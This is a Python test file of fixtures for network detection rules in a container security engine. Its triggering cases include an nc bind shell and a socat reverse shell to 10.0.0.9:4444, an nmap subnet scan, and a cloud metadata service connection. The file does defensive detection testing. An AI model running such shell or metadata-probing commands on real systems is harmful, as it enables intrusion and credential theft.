"""Events for the rules of ``rules/40_network.yaml``."""

from __future__ import annotations

from engine.events import Fd
from tests.helpers.events import called, started
from tests.helpers.shipped.case import AF_INET, AF_PACKET, Case, connection

CASES = (
    Case(
        "Standard input or output on the network",
        {
            "stdin": called("dup2", fd=connection(), res=0, oldfd=3, newfd=0),
            "on the host": called("dup3", fd=connection("ipv6"), res=1, oldfd=3, newfd=1, on_host=True),
        },
        {
            "another number": called("dup2", fd=connection(), res=4, oldfd=3, newfd=4),
            "a file": called("dup2", fd=Fd(num=0, type="file", name="/dev/null"), res=0, oldfd=3, newfd=0),
            "sshd": called("dup2", "/usr/sbin/sshd", fd=connection(), res=0, oldfd=3, newfd=0, on_host=True),
        },
    ),
    Case(
        "Network tool offers a shell",
        {
            "nc": started("/bin/nc", "-ll", "-p", "4444", "-e", "sh"),
            "socat": started("/usr/bin/socat", "TCP:10.0.0.9:4444", "EXEC:sh"),
        },
        {"nc as a client": started("/bin/nc", "10.0.0.9", "80")},
    ),
    Case(
        "Network tool in container",
        {"nmap": started("/usr/bin/nmap", "10.0.0.0/24")},
        {"on the host": started("/usr/bin/nmap", on_host=True), "another program": started("/usr/bin/curl")},
    ),
    Case(
        "Packet socket in container",
        {"tcpdump": called("socket", domain=AF_PACKET, type=3, proto=768, res=3)},
        {
            "an ordinary socket": called("socket", domain=AF_INET, type=1, proto=0, res=3),
            "on the host": called("socket", domain=AF_PACKET, type=3, proto=768, res=3, on_host=True),
        },
    ),
    Case(
        "Cloud metadata service contacted from container",
        {"curl": called("connect", fd=connection(remote="169.254.169.254"))},
        {
            "another address": called("connect", fd=connection()),
            "on the host": called("connect", fd=connection(remote="169.254.169.254"), on_host=True),
        },
    ),
)
